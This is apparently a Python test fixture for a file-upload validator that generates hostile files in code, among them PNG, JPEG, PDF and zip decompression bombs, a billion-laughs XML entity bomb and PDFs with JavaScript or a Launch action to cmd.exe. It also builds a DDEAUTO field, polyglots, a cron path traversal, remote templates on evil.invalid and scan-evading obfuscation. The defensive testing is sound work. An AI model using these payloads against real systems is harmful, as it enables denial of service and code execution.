"""What an attacker sends, made by code: no hostile file is kept in the repository. `FILES`: name sent → (bytes, code of the refusal)."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests.uploads import good

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


# --- pictures ---------------------------------------------------------------
def _chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_bomb(width=60_000, height=60_000):
    """A few kilobytes that would open on 10 GB."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + _chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000)) + _chunk(b"IEND", b"")


def png_text_bomb():
    """A small picture whose words open on 200 MB."""
    words = _chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 200_000_000, 1))
    whole = good.png()
    return whole[:33] + words + whole[33:]


def jpg_bomb():
    """A small photograph that declares 65,500 × 65,500 points."""
    whole = bytearray(good.jpg())
    at = whole.find(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(whole)


def jpg_of_many_scans(scans=400):
    """Progressive, 16 million points, the same refinement asked for again and again."""
    made = io.BytesIO()
    Image.new("L", (4000, 4000)).save(made, "JPEG", progressive=True)
    whole = made.getvalue()
    last = whole.rfind(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * scans + whole[-2:]


# --- PDF ----------------------------------------------------------------------
def _javascript(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _launch(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")


def _embedded(pdf):
    pdf.attachments["facture.exe"] = b"MZ"


def _xfa(pdf):
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(pdf, b"<xdp/>"), Fields=pikepdf.Array())


def _eicar(pdf):
    pdf.pages[0].Contents = pikepdf.Stream(pdf, EICAR)


def pdf_hidden_javascript():
    """The name written in hexadecimal, inside a compressed object: a search in the bytes sees nothing."""
    whole = good.pdf(_javascript, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in whole
    return whole


def pdf_named_in_hexadecimal():
    return (
        good.pdf(_javascript, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        .replace(b"/JavaScript", b"/J#61v#61Script")
        .replace(b"/JS ", b"/#4aS ")
    )


def pdf_object_bomb():
    """A table of objects that opens on 200 MB of blanks."""
    inflated = zlib.compress(b" " * 200_000_000, 1)
    start = b"%PDF-1.7\n"
    table = b"1 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Root 2 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(inflated)
    return start + table + inflated + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % len(start)


def pdf_object_stream_bomb():
    """A well-formed PDF whose only object opens on 200 MB."""
    catalogue = b"1 0 <</Type/Catalog/Pages 1 0 R>>"
    packed = zlib.compress(catalogue + b" " * 200_000_000, 1)
    start = b"%PDF-1.7\n"
    pack = b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    pack += packed + b"\nendstream\nendobj\n"
    at = len(start) + len(pack)
    rows = b"".join(struct.pack(">BIB", *row) for row in ((0, 0, 0), (2, 3, 0), (1, at, 0), (1, len(start), 0)))
    table = b"2 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return start + pack + table + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % at


def pdf_of_objects(count=61_000):
    """Each of them nearly empty: nothing to inflate, but so many to look at."""

    def fill(pdf):
        pdf.Root.Many = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(A=rank)) for rank in range(count)])

    return good.pdf(fill)


def pdf_of_pages(count):
    return good.pdf(lambda pdf: [pdf.add_blank_page() for _ in range(count - 1)])


def encrypted(password):
    return good.pdf(encryption=pikepdf.Encryption(owner="secret", user=password))


# --- archives --------------------------------------------------------------------
def zip_bomb():
    """A Word document of 240 kB whose two pictures open on 240 MB."""
    return good.docx(("word/media/image1.png", b"\0" * 120_000_000), ("word/media/image2.png", b"\0" * 120_000_000))


def zip_of_many_entries():
    return good.docx(*((f"word/media/{rank}.png", b"") for rank in range(20_000)))


def zip_of_shared_bytes():
    """Every line of the table of contents points at the same bytes (a bomb that no ratio shows)."""
    parts = [(f"word/media/{rank}.png", b"A" * 900_000) for rank in range(40)]
    whole = bytearray(good.docx(*parts))
    central = [at for at in _all(whole, b"PK\x01\x02") if b"word/media" in whole[at : at + 80]]
    first = whole[central[0] + 42 : central[0] + 46]
    for at in central[1:]:
        whole[at + 42 : at + 46] = first
    return bytes(whole)


def _all(whole, mark):
    at = whole.find(mark)
    while at >= 0:
        yield at
        at = whole.find(mark, at + 4)


def nested_zip():
    inner = good.archive([("nuls", b"\0" * 5_000_000)])
    for _ in range(4):
        inner = good.archive([(f"{rank}.zip", inner) for rank in range(8)])
    return good.docx(("word/media/image1.zip", inner))


def hidden_archive():
    return good.docx(("word/media/image1.png", good.archive([("a.exe", b"MZ")])))


def external_template():
    link = good.RELATIONS.format(good.relation("attachedTemplate", "https://evil.invalid/modele.dotm"))
    return good.docx(("word/_rels/settings.xml.rels", link))


def encoded_relation():
    """The same in UTF-16, which a search in the bytes does not read."""
    link = good.RELATIONS.format(good.relation("attachedTemplate", "https://evil.invalid/modele.dotm"))
    return good.docx(("word/_rels/settings.xml.rels", link.replace("UTF-8", "UTF-16").encode("utf-16")))


def laughing_relation():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE r [<!ENTITY l0 "ha">{entities}]><r>&l9;</r>'
    return good.docx(("word/_rels/settings.xml.rels", bomb))


def dde():
    field = good.DOCUMENT.replace("<w:t>Attestation</w:t>", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")
    return good.archive([(n, field if n == "word/document.xml" else c) for n, c in good.word_parts()])


def odt_picture_from_elsewhere():
    return good.odt(text='<x xmlns:xlink="x"><draw:image xlink:href="https://evil.invalid/p.png"/></x>')


def encrypted_zip():
    whole = bytearray(good.docx())
    for mark, shift in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for at in _all(whole, mark):
            whole[at + shift] |= 1
    return bytes(whole)


FILES = {
    "bombe.png": (png_bomb, "pixels"),
    "texte.png": (png_text_bomb, "damaged"),
    "bombe.jpg": (jpg_bomb, "pixels"),
    "passes.jpg": (jpg_of_many_scans, "pixels"),
    "coupee.jpg": (lambda: good.jpg((400, 400))[:-300], "damaged"),
    "coupee.png": (lambda: good.png((400, 400))[:-40], "damaged"),
    "svg.png": (lambda: SVG, "format"),
    "page.pdf": (lambda: HTML, "format"),
    "gif.js": (lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", "format"),
    "programme.pdf": (lambda: b"MZ" + b"\0" * 400, "format"),
    "ancien.docx": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "format"),
    "vide.pdf": (lambda: b"", "empty"),
    "decale.pdf": (lambda: HTML + good.pdf(), "format"),
    "page-cachee.pdf": (lambda: good.pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%" + HTML + b"\n"), "polyglot"),
    "queue.pdf": (lambda: good.pdf() + HTML, "polyglot"),
    "archive.pdf": (lambda: good.pdf() + good.archive([("a.js", b"alert(1)")]), "polyglot"),
    "javascript.pdf": (lambda: good.pdf(_javascript), "pdf_javascript"),
    "javascript-cache.pdf": (pdf_hidden_javascript, "pdf_js"),
    "javascript-hexa.pdf": (pdf_named_in_hexadecimal, "pdf_js"),
    "commande.pdf": (lambda: good.pdf(_launch), "pdf_launch"),
    "joint.pdf": (lambda: good.pdf(_embedded), "pdf_embeddedfiles"),
    "xfa.pdf": (lambda: good.pdf(_xfa), "pdf_xfa"),
    "chiffre.pdf": (lambda: encrypted("secret"), "encrypted"),
    "chiffre-ouvert.pdf": (lambda: encrypted(""), "encrypted"),
    "table.pdf": (pdf_object_bomb, "damaged"),
    "paquet.pdf": (pdf_object_stream_bomb, "damaged"),
    "objets.pdf": (pdf_of_objects, "heavy"),
    "pages.pdf": (lambda: pdf_of_pages(301), "pages"),
    "ordures.pdf": (lambda: b"%PDF-1.4\n" + b"garbage" * 100, "damaged"),
    "macros.docm": (lambda: good.docx(("word/vbaProject.bin", b"vba")), "macros"),
    "macros.docx": (
        lambda: good.docx(part="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "modele.docx": (external_template, "external"),
    "modele16.docx": (encoded_relation, "damaged"),
    "rires.docx": (laughing_relation, "damaged"),
    "dde.docx": (dde, "macros"),
    "objet.docx": (lambda: good.docx(("word/embeddings/oleObject1.bin", b"ole")), "embedded"),
    "bombe.docx": (zip_bomb, "bomb"),
    "entrees.docx": (zip_of_many_entries, "bomb"),
    "partage.docx": (zip_of_shared_bytes, "bomb"),
    "gigogne.docx": (nested_zip, "embedded"),
    "gigogne-cachee.docx": (hidden_archive, "embedded"),
    "chemin.docx": (lambda: good.docx(("../../etc/cron.d/x", b"x")), "traversal"),
    "chiffre.docx": (encrypted_zip, "encrypted"),
    "prefixe.docx": (lambda: b"PK\x03\x04" + HTML + good.docx(), "polyglot"),
    "suffixe.docx": (lambda: _commented(good.docx()), "polyglot"),
    "classeur.docx": (lambda: good.archive([("xl/workbook.xml", b"<x/>")]), "format"),
    "sans-mimetype.odt": (lambda: good.odt(mimetype=None), "format"),
    "autre-mimetype.odt": (lambda: good.odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"), "format"),
    "macros.odt": (lambda: good.odt(("Basic/Standard/Module1.xml", b"<x/>")), "macros"),
    "ailleurs.odt": (odt_picture_from_elsewhere, "external"),
}


def _commented(whole):
    with zipfile.ZipFile(made := io.BytesIO(whole), "a") as zipped:
        zipped.comment = HTML
    return made.getvalue()


def eicar_pdf():
    return good.pdf(_eicar, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def eicar_docx():
    return good.archive([*good.word_parts(), ("word/media/eicar.txt", EICAR)], stored=("word/media/eicar.txt",))
